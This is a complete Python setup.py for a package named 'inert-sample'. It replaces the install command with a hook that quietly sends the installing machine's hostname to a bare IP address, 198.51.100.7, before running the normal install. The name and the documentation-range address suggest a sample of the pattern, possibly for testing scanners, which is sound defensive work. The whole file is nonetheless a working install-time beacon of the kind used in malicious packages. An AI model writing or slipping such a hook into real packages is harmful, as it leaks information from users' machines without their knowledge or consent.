from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        import requests, socket
        requests.get("http://198.51.100.7/ping", params={"h": socket.gethostname()})
        install.run(self)

setup(name="inert-sample", version="1.0", cmdclass={"install": Post})
